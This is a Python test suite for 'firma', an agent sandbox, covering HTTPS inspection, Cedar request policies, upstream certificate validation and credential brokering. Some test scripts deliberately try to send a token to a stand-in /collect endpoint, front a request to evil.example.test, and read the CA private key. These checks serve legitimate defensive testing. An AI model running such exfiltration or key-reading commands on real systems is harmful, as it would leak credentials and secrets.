"""HTTPS inspection and credential brokering (DESIGN §5.7), for real: the agent's HTTPS is
terminated with a leaf of firma's CA for the destinations chosen, every request is decided by the
Cedar policy with its method and path, the upstream is verified against firma's own trust store
(SSL_CERT_FILE here: the test CA), and a credential's secret reaches only its bound host's header.

Every upstream is an HTTPS server on host loopback (certificates from trustme) that records what
arrived; names resolve through the test driver's FIRMA_TEST_RESOLVE table, never real DNS."""

from __future__ import annotations

import datetime
import json
import ssl
from pathlib import Path

import pytest
import trustme

from linux_support import SYSTEM_PYTHON, base_env, require_tools, run_firma
from tls_upstream import TlsUpstream, ca_bundle

pytestmark = pytest.mark.confinement

SECRET = "s3cr3t-Zq8xK2mWvT9p"  # the test's stand-in for a real token: its bytes are searched for


@pytest.fixture(autouse=True)
def _tools():
    require_tools()


@pytest.fixture
def ca():
    return trustme.CA()


def _env(tmp_path: Path, ca: trustme.CA, *names: str, **extra: str) -> dict[str, str]:
    env = base_env(tmp_path, SSL_CERT_FILE=str(ca_bundle(tmp_path, ca)), **extra)
    env["FIRMA_TEST_RESOLVE"] = json.dumps({n: ["127.0.0.1"] for n in names})
    return env


def _audit(tmp_path: Path) -> list[dict]:
    with open(tmp_path / "state" / "audit.jsonl") as f:
        return [json.loads(line) for line in f]


def _proof(tmp_path: Path) -> dict:
    (p,) = (tmp_path / "state" / "proofs").glob("sbx_*.json")
    return json.loads(p.read_text())


def _ws(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir(exist_ok=True)
    return ws


def _curl(url: str, *args: str) -> str:
    """curl through the proxy variables firma sets; -w prints the status and the issuer curl saw."""
    quoted = " ".join(f"'{a}'" for a in args)
    return f"curl -sS -m 10 {quoted} -o body.out -w '%{{http_code}} %{{certs}}' '{url}' > status.out 2>curl.err; true"


def test_an_inspected_request_is_decided_and_relayed_with_firmas_certificate(tmp_path, ca):
    """--inspect: curl (trusting only the bundle firma mounts) talks to firma's leaf, the request
    reaches the upstream over TLS verified against the test CA, and the audit has its method and
    path. Control: the same request to a host that is not inspected is tunnelled, and curl sees
    the upstream's own certificate."""
    up = TlsUpstream(ca, ("api.example.test", "plain.example.test"))
    try:
        env = _env(tmp_path, ca, "api.example.test", "plain.example.test")
        ws = _ws(tmp_path)
        script = (
            f"curl -sS -m 10 -o a.out -w '%{{http_code}}' https://api.example.test:{up.port}/v1/items?page=2\\&q=x > a.status 2> a.err;"
            f"curl -sS -m 10 -o b.out -w '%{{http_code}}' https://plain.example.test:{up.port}/tunnelled > b.status 2> b.err;"
            f"openssl s_client -connect api.example.test:{up.port} -proxy 127.0.0.1:18080 -servername api.example.test "
            f"</dev/null 2>/dev/null | openssl x509 -noout -issuer > a.issuer;"
            f"openssl s_client -connect plain.example.test:{up.port} -proxy 127.0.0.1:18080 -servername plain.example.test "
            f"</dev/null 2>/dev/null | openssl x509 -noout -issuer > b.issuer; true"
        )
        p = run_firma(["run", "--quiet", "--inspect", "api.example.test",
                       "--allow-host", f"api.example.test:{up.port}", "--allow-host", f"plain.example.test:{up.port}",
                       "--", "sh", "-c", script], cwd=ws, env=env)
        assert p.returncode == 0, p.stderr
        assert (ws / "a.status").read_text() == "200", (ws / "a.err").read_text()
        assert (ws / "b.status").read_text() == "200", (ws / "b.err").read_text()
        assert "firma" in (ws / "a.issuer").read_text()
        assert "firma" not in (ws / "b.issuer").read_text() and (ws / "b.issuer").read_text().strip()  # control
        got = [h for h in up.hits if h["path"].startswith("/v1/items")]
        assert got and got[0]["method"] == "GET" and got[0]["path"] == "/v1/items?page=2&q=x"
        events = _audit(tmp_path)
        inspected = [e for e in events if e["resource"] == f"GET https://api.example.test:{up.port}/v1/items"]
        assert inspected and inspected[0]["action"] == "http.request" and inspected[0]["decision"] == 1
        assert not any("page=2" in e["resource"] for e in events)  # query values never in the audit
        tunnel = [e for e in events if e["resource"] == f"plain.example.test:{up.port}"]
        assert tunnel and tunnel[0]["action"] == "network.connect"
        doc = _proof(tmp_path)
        assert doc["inspection"]["inspect"] == ["api.example.test"]
        check = {c["name"]: c for c in doc["checks"]}["inspection"]
        assert check["ok"] and "inspected: api.example.test" in check["detail"]
    finally:
        up.close()


POLICY = """
permit(principal, action, resource) when { resource.host == "api.example.test" };
forbid(principal, action == Action::"http.request", resource)
  when { resource.host == "api.example.test" && resource.method == "POST" && resource.path like "/repos/*" };
"""


def test_a_cedar_forbid_on_method_and_path_holds_over_https(tmp_path, ca):
    """A policy that forbids POST /repos/* on a host makes it inspected with no --inspect: the GET
    and a POST elsewhere arrive, the POST to /repos/x does not (checked at the upstream)."""
    up = TlsUpstream(ca)
    try:
        env = _env(tmp_path, ca, "api.example.test")
        ws = _ws(tmp_path)
        policy = tmp_path / "policy.cedar"
        policy.write_text(POLICY)
        base = f"https://api.example.test:{up.port}"
        script = (
            f"curl -sS -m 10 -o /dev/null -w '%{{http_code}} ' {base}/repos/x > codes;"
            f"curl -sS -m 10 -o /dev/null -w '%{{http_code}} ' -X POST -d 'a=1' {base}/repos/x >> codes;"
            f"curl -sS -m 10 -o /dev/null -w '%{{http_code}}' -X POST -d 'b=2' {base}/issues >> codes; true"
        )
        p = run_firma(["run", "--quiet", "--policy", str(policy), "--allow-host", f"api.example.test:{up.port}",
                       "--", "sh", "-c", script], cwd=ws, env=env)
        assert p.returncode == 0, p.stderr
        assert (ws / "codes").read_text().split() == ["200", "403", "200"]
        arrived = [(h["method"], h["path"]) for h in up.hits]
        assert ("GET", "/repos/x") in arrived and ("POST", "/issues") in arrived
        assert ("POST", "/repos/x") not in arrived
        denied = [e for e in _audit(tmp_path) if e["decision"] == 2 and e["resource"].endswith("/repos/x")]
        assert denied and denied[0]["deny_reason"] == "policy_forbid"
        assert denied[0]["resource"] == f"POST https://api.example.test:{up.port}/repos/x"  # method and path
        assert "decided per request by the policy: api.example.test" in {c["name"]: c for c in _proof(tmp_path)["checks"]}["inspection"]["detail"]
    finally:
        up.close()


def test_no_inspect_wins_and_the_connection_is_tunnelled_untouched(tmp_path, ca):
    up = TlsUpstream(ca)
    try:
        env = _env(tmp_path, ca, "api.example.test")
        ws = _ws(tmp_path)
        cfg = tmp_path / "firma.toml"
        cfg.write_text('[run]\ninspect = ["*.example.test"]\nno_inspect = ["api.example.test"]\n')
        script = (f"openssl s_client -connect api.example.test:{up.port} -proxy 127.0.0.1:18080 -servername api.example.test "
                  f"</dev/null 2>/dev/null | openssl x509 -noout -issuer > issuer; true")
        p = run_firma(["run", "--quiet", "--config", str(cfg), "--allow-host", f"api.example.test:{up.port}",
                       "--", "sh", "-c", script], cwd=ws, env=env)
        assert p.returncode == 0, p.stderr
        issuer = (ws / "issuer").read_text()
        assert issuer.strip() and "firma" not in issuer
        assert [e for e in _audit(tmp_path) if e["resource"] == f"api.example.test:{up.port}"]
    finally:
        up.close()


def _bad_upstreams(ca: trustme.CA) -> dict[str, TlsUpstream]:
    wrong = TlsUpstream(ca, ("someone-else.example.test",))
    unknown = TlsUpstream(trustme.CA(), ("api.example.test",))
    expired_ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    past = datetime.datetime(2020, 1, 1, tzinfo=datetime.timezone.utc)
    ca.issue_cert("api.example.test", not_before=past, not_after=past + datetime.timedelta(days=1)).configure_cert(expired_ctx)
    expired = TlsUpstream(context=expired_ctx)
    return {"wrong": wrong, "unknown": unknown, "expired": expired}


def test_an_upstream_whose_certificate_does_not_hold_fails_closed(tmp_path, ca):
    """Wrong name, unknown CA, expired: a 502 whose body says why, an audit line with the reason,
    and nothing of the request reaches the upstream. Control: a valid upstream answers 200."""
    bad = _bad_upstreams(ca)
    good = TlsUpstream(ca)
    try:
        env = _env(tmp_path, ca, "api.example.test")
        ws = _ws(tmp_path)
        ports = {k: u.port for k, u in bad.items()} | {"good": good.port}
        script = "".join(
            f"curl -sS -m 10 -o {k}.body -w '%{{http_code}}' https://api.example.test:{port}/secret-path > {k}.code; "
            for k, port in ports.items()) + "true"
        allow = [a for port in ports.values() for a in ("--allow-host", f"api.example.test:{port}")]
        p = run_firma(["run", "--quiet", "--inspect", "api.example.test", *allow, "--", "sh", "-c", script], cwd=ws, env=env)
        assert p.returncode == 0, p.stderr
        assert (ws / "good.code").read_text() == "200"  # control
        words = {"wrong": "Hostname mismatch", "unknown": "unable to get local issuer certificate",
                 "expired": "certificate has expired"}
        for k, said in words.items():
            assert (ws / f"{k}.code").read_text() == "502", k
            body = (ws / f"{k}.body").read_text()
            assert "upstream_certificate_invalid" in body and said in body, (k, body)
            assert not bad[k].hits, k
        aborted = [e for e in _audit(tmp_path) if e["deny_reason"] == "upstream_certificate_invalid"]
        assert len(aborted) == 3 and all(e["decision"] == 3 for e in aborted)
    finally:
        for u in (*bad.values(), good):
            u.close()


def _credential_config(tmp_path: Path, *hosts: str) -> Path:
    cfg = tmp_path / "firma.toml"
    cfg.write_text(
        "[credentials.github]\n"
        f"hosts = {json.dumps(list(hosts))}\n"
        'env = "GITHUB_TOKEN"\n'
        'format = "Bearer {secret}"\n'
        'source = "env:FIRMA_TEST_TOKEN"\n'
    )
    return cfg


def test_a_credential_reaches_only_its_bound_host_and_the_agent_sees_only_the_placeholder(tmp_path, ca):
    """The bound upstream receives the real secret in Authorization; the echo of it comes back to
    the agent as the placeholder; the agent's environment, the workspace, the proof and the run's
    files hold only the placeholder; the placeholder sent to another allowed host is refused,
    audited, and never arrives there; a request to that host without it carries no secret."""
    api = TlsUpstream(ca, ("api.example.test",))
    other = TlsUpstream(ca, ("other.example.test",))
    try:
        env = _env(tmp_path, ca, "api.example.test", "other.example.test", FIRMA_TEST_TOKEN=SECRET)
        ws = _ws(tmp_path)
        cfg = _credential_config(tmp_path, f"api.example.test:{api.port}")  # a bare name means port 443
        a, o = f"https://api.example.test:{api.port}", f"https://other.example.test:{other.port}"
        script = (
            "tr '\\0' '\\n' < /proc/$$/environ | grep '^GITHUB_TOKEN=' > env.out;"
            f"curl -sS -m 10 -H \"Authorization: Bearer $GITHUB_TOKEN\" -o echo.json {a}/user;"
            f"curl -sS -m 10 -H \"Authorization: Bearer $GITHUB_TOKEN\" -o stray1.out -w '%{{http_code}}' {o}/collect > stray1.code;"
            f"curl -sS -m 10 -o stray2.out -w '%{{http_code}}' \"{o}/collect?t=$GITHUB_TOKEN\" > stray2.code;"
            f"curl -sS -m 10 -o stray3.out -w '%{{http_code}}' -d \"token=$GITHUB_TOKEN\" {o}/collect > stray3.code;"
            f"curl -sS -m 10 -o clean.out -w '%{{http_code}}' {o}/clean > clean.code; true"
        )
        # the other host is inspected too: in a tunnel nothing is seen (the placeholder is worthless there)
        p = run_firma(["run", "--quiet", "--config", str(cfg), "--inspect", "other.example.test",
                       "--allow-host", f"api.example.test:{api.port}",
                       "--allow-host", f"other.example.test:{other.port}", "--", "sh", "-c", script], cwd=ws, env=env)
        assert p.returncode == 0, p.stderr
        placeholder = (ws / "env.out").read_text().strip().split("=", 1)[1]
        assert placeholder.startswith("firma-cred-github-") and SECRET not in placeholder
        # what the bound upstream received: the secret, in the header, in the configured format
        (hit,) = [h for h in api.hits if h["path"] == "/user"]
        assert dict((k.lower(), v) for k, v in hit["headers"])["authorization"] == f"Bearer {SECRET}"
        # what the agent was shown of the echo: the placeholder in place of the secret
        echo = (ws / "echo.json").read_text()
        assert SECRET not in echo and f"Bearer {placeholder}" in echo
        # the placeholder to another host: refused, never arrived; a clean request: no secret
        for k in ("stray1", "stray2", "stray3"):
            assert (ws / f"{k}.code").read_text() == "403", k
        assert [h["path"] for h in other.hits] == ["/clean"]
        assert SECRET not in json.dumps(other.hits) and placeholder not in json.dumps(other.hits)
        exfil = [e for e in _audit(tmp_path) if e["deny_reason"] == "credential_exfiltration:github"]
        assert len(exfil) == 3 and all(e["decision"] == 2 for e in exfil)
        injected = [e for e in _audit(tmp_path) if "credential_injected:github" in e["deny_reason"]]
        assert len(injected) == 1 and injected[0]["resource"].endswith("/user") and injected[0]["decision"] == 1
        # nowhere on disk that firma or the agent wrote: the workspace, the state (proof, audit, run logs)
        for root in (ws, tmp_path / "state"):
            for path in root.rglob("*"):
                if path.is_file():
                    assert SECRET.encode() not in path.read_bytes(), path
        doc = _proof(tmp_path)
        cred = doc["inspection"]["credentials"][0]
        assert cred == {"name": "github", "env": "GITHUB_TOKEN", "hosts": [f"api.example.test:{api.port}"],
                        "header": "Authorization", "source": "env"}
    finally:
        api.close()
        other.close()


def test_the_ca_key_stays_outside(tmp_path, ca):
    """firma's CA key exists in the state root on the host (control) and cannot be read inside,
    by its path or anywhere under the state root."""
    env = _env(tmp_path, ca)
    ws = _ws(tmp_path)
    key = tmp_path / "state" / "ca" / "ca.key"
    p = run_firma(["run", "--quiet", "--inspect", "api.example.test", "--", "sh", "-c",
                   f"cat {key} > key.out 2> key.err; ls -la {tmp_path / 'state'} > state.ls 2>&1; true"],
                  cwd=ws, env=env)
    assert p.returncode == 0, p.stderr
    assert key.exists() and (key.stat().st_mode & 0o777) == 0o600  # control: it is there, outside
    assert (ws / "key.out").read_text() == "" and "No such file" in (ws / "key.err").read_text()
    assert "ca" not in (ws / "state.ls").read_text().split()


def test_python_clients_trust_firmas_bundle_with_no_flags(tmp_path, ca):
    """urllib and requests (the test venv's) inside the sandbox: both pick the bundle up from the
    variables firma sets, and their requests are inspected (audited with their paths)."""
    up = TlsUpstream(ca)
    try:
        env = _env(tmp_path, ca, "api.example.test")
        ws = _ws(tmp_path)
        url = f"https://api.example.test:{up.port}"
        code = ("import sys, urllib.request\n"
                f"print(urllib.request.urlopen('{url}/urllib', timeout=10).status)\n")
        p = run_firma(["run", "--quiet", "--inspect", "api.example.test", "--allow-host", f"api.example.test:{up.port}",
                       "--", SYSTEM_PYTHON, "-c", code], cwd=ws, env=env)
        assert p.returncode == 0 and p.stdout.strip() == "200", p.stderr + p.stdout
        assert [h for h in up.hits if h["path"] == "/urllib"]
        assert [e for e in _audit(tmp_path) if e["resource"] == f"GET {url}/urllib"]
    finally:
        up.close()


def test_secret_sources_are_checked_before_the_sandbox_exists(tmp_path, ca):
    """A missing source variable stops the launch with one line naming the credential; nothing runs."""
    env = _env(tmp_path, ca, "api.example.test")
    ws = _ws(tmp_path)
    cfg = _credential_config(tmp_path, "api.example.test")
    p = run_firma(["run", "--config", str(cfg), "--", "sh", "-c", "touch ran"], cwd=ws, env=env)
    assert p.returncode == 1 and p.stderr.startswith("[ERR]  ") and "credentials.github" in p.stderr, p.stderr
    assert not (ws / "ran").exists()
    assert SECRET not in p.stderr


def test_untrusted_project_config_cannot_add_credentials_or_inspection(tmp_path, ca):
    """A project config in the workspace that nobody trusted: its [credentials] and inspect are
    ignored (named at launch), its no_inspect is honoured."""
    env = _env(tmp_path, ca, FIRMA_TEST_TOKEN=SECRET)
    ws = _ws(tmp_path)
    (ws / ".firma").mkdir()
    (ws / ".firma" / "firma.toml").write_text(
        '[run]\ninspect = ["api.example.test"]\nno_inspect = ["x.example.test"]\n'
        '[credentials.github]\nhosts = ["api.example.test"]\nenv = "GITHUB_TOKEN"\nsource = "env:FIRMA_TEST_TOKEN"\n')
    p = run_firma(["run", "--quiet", "--", "sh", "-c", "echo ${GITHUB_TOKEN:-unset} > tok"], cwd=ws, env=env)
    assert p.returncode == 0, p.stderr
    assert (ws / "tok").read_text().strip() == "unset"
    doc = _proof(tmp_path)
    assert doc["inspection"]["inspect"] == [] and doc["inspection"]["no_inspect"] == ["x.example.test"]
    ignored = [k for c in doc["config"] for k in c["ignored_keys"]]
    assert "credentials.github" in ignored and "inspect" in ignored


EXAMPLES = Path(__file__).resolve().parents[2] / "examples" / "policies"


def test_the_documented_github_read_only_policy_holds(tmp_path, ca):
    """examples/policies/github-read-only.cedar as the README shows it: GET and HEAD reach the
    (local stand-in for) api.github.com, POST, PATCH and DELETE are refused and never arrive.
    Control: the same requests without the policy all arrive."""
    up = TlsUpstream(ca, ("api.github.com",))
    try:
        env = _env(tmp_path, ca, "api.github.com")
        ws = _ws(tmp_path)
        base = f"https://api.github.com:{up.port}/repos/o/r"
        script = "".join(f"curl -sS -m 10 -o /dev/null -w '%{{http_code}} ' -X {m} {base}/{m.lower()} >> codes; "
                         for m in ("GET", "POST", "PATCH", "DELETE")) + f"curl -sS -m 10 -I -o /dev/null -w '%{{http_code}}' {base}/head >> codes"
        allow = ["--allow-host", f"api.github.com:{up.port}"]
        p = run_firma(["run", "--quiet", "--policy", str(EXAMPLES / "github-read-only.cedar"), *allow,
                       "--", "sh", "-c", script], cwd=ws, env=env)
        assert p.returncode == 0, p.stderr
        assert (ws / "codes").read_text().split() == ["200", "403", "403", "403", "200"]
        assert sorted(h["method"] for h in up.hits) == ["GET", "HEAD"]
        (ws / "codes").unlink()
        p = run_firma(["run", "--quiet", *allow, "--inspect", "api.github.com", "--", "sh", "-c", script], cwd=ws, env=env)
        assert p.returncode == 0 and (ws / "codes").read_text().split() == ["200"] * 5  # control
    finally:
        up.close()


def test_a_credential_that_could_never_be_added_refuses_the_launch(tmp_path, ca):
    """Bound to an IP literal (no server name to inspect) or to a host no_inspect names: the
    secret would silently never be used, so the launch stops with one line saying so."""
    env = _env(tmp_path, ca, FIRMA_TEST_TOKEN=SECRET)
    ws = _ws(tmp_path)
    for hosts, extra, said in ((["127.0.0.1:8443"], "", "bound to the address 127.0.0.1:8443"),
                               (["api.example.test"], '[run]\nno_inspect = ["api.example.test"]\n', "which no_inspect names")):
        cfg = _credential_config(tmp_path, *hosts)
        cfg.write_text(extra + cfg.read_text())
        p = run_firma(["run", "--config", str(cfg), "--", "sh", "-c", "touch ran"], cwd=ws, env=env)
        assert p.returncode == 1 and said in p.stderr and p.stderr.startswith("[ERR]  "), p.stderr
        assert not (ws / "ran").exists() and SECRET not in p.stderr
    cfg = _credential_config(tmp_path, "api.example.test")  # control: the same credential, reachable
    p = run_firma(["run", "--quiet", "--config", str(cfg), "--", "sh", "-c", "touch ran"], cwd=ws, env=env)
    assert p.returncode == 0 and (ws / "ran").exists(), p.stderr


class _WebSocketUpstream:
    """A TLS server that answers an Upgrade with 101 and then echoes raw bytes upper-cased (the
    frames are not parsed: after 101 firma relays bytes as they are)."""

    def __init__(self, ca: trustme.CA) -> None:
        import socket
        import threading

        self.ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        ca.issue_cert("ws.example.test").configure_cert(self.ctx)
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.paths: list[str] = []
        self.echoed = b""
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                raw, _ = self.sock.accept()
            except OSError:
                return
            try:
                c = self.ctx.wrap_socket(raw, server_side=True)
                head = b""
                while b"\r\n\r\n" not in head:
                    head += c.recv(4096)
                self.paths.append(head.split(b" ")[1].decode())
                c.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
                while data := c.recv(4096):
                    self.echoed += data
                    c.sendall(data.upper())
            except (OSError, ssl.SSLError):
                pass
            finally:
                raw.close()

    def close(self) -> None:
        self.sock.close()


WS_CLIENT = r'''
import os, socket, ssl, sys
host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
s = socket.create_connection(("127.0.0.1", 18080))
s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
assert s.recv(4096).startswith(b"HTTP/1.1 200")
t = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]).wrap_socket(s, server_hostname=host)
t.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
          "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n".encode())
head = b""
while b"\r\n\r\n" not in head:
    head += t.recv(4096)
status = head.split(b" ")[1].decode()
print(status, end=" ")
if status == "101":
    rest = head.split(b"\r\n\r\n", 1)[1]
    t.sendall(b"\x81\x05hello raw bytes")
    while len(rest) < 17:
        rest += t.recv(4096)
    print(rest.hex())
'''


def test_a_websocket_upgrade_is_decided_then_relayed_as_bytes(tmp_path, ca):
    """Over an inspected connection the upgrade request is decided like any request (a Cedar
    forbid on its path refuses it: 403, nothing arrives); an allowed one gets the upstream's 101,
    after which bytes go both ways untouched (no HTTP parsing of the frames)."""
    up = _WebSocketUpstream(ca)
    try:
        env = _env(tmp_path, ca, "ws.example.test")
        ws = _ws(tmp_path)
        (ws / "wsclient.py").write_text(WS_CLIENT)
        policy = tmp_path / "ws.cedar"
        policy.write_text('forbid (principal, action == Action::"http.request", resource)\n'
                          '  when { resource.host == "ws.example.test" && resource.path == "/denied" };\n')
        script = (f"{SYSTEM_PYTHON} wsclient.py ws.example.test {up.port} /socket > ok.out 2>&1; "
                  f"{SYSTEM_PYTHON} wsclient.py ws.example.test {up.port} /denied > denied.out 2>&1; true")
        p = run_firma(["run", "--quiet", "--policy", str(policy), "--allow-host", f"ws.example.test:{up.port}",
                       "--", "sh", "-c", script], cwd=ws, env=env)
        assert p.returncode == 0, p.stderr
        assert (ws / "ok.out").read_text() == "101 " + b"\x81\x05HELLO RAW BYTES".hex() + "\n", (ws / "ok.out").read_text()
        assert (ws / "denied.out").read_text().strip() == "403"
        assert up.paths == ["/socket"] and up.echoed == b"\x81\x05hello raw bytes"
        events = {e["resource"]: e for e in _audit(tmp_path) if e["action"] == "http.request"}
        assert events[f"GET https://ws.example.test:{up.port}/socket"]["dispatch_status"] == 101
        assert events[f"GET https://ws.example.test:{up.port}/denied"]["deny_reason"] == "policy_forbid"
    finally:
        up.close()


def test_domain_fronting_inside_tls_is_refused_on_an_inspected_host(tmp_path, ca):
    """ATTACKS #18: TLS whose SNI is the allowed name, carrying a request whose Host names another
    site. A tunnel cannot see it; an inspected connection refuses it (host_mismatch) and nothing
    arrives. Control: the same request with its own Host arrives."""
    up = TlsUpstream(ca, ("api.example.test", "evil.example.test"))
    try:
        env = _env(tmp_path, ca, "api.example.test")
        ws = _ws(tmp_path)
        url = f"https://api.example.test:{up.port}"
        script = (f"curl -sS -m 10 -o /dev/null -w '%{{http_code}} ' -H 'Host: evil.example.test:{up.port}' {url}/fronted > codes;"
                  f"curl -sS -m 10 -o /dev/null -w '%{{http_code}}' {url}/own >> codes; true")
        p = run_firma(["run", "--quiet", "--inspect", "api.example.test", "--allow-host", f"api.example.test:{up.port}",
                       "--", "sh", "-c", script], cwd=ws, env=env)
        assert p.returncode == 0, p.stderr
        assert (ws / "codes").read_text().split() == ["403", "200"]
        assert [h["path"] for h in up.hits] == ["/own"]
        assert [e for e in _audit(tmp_path) if e["deny_reason"] == "host_mismatch"]
    finally:
        up.close()
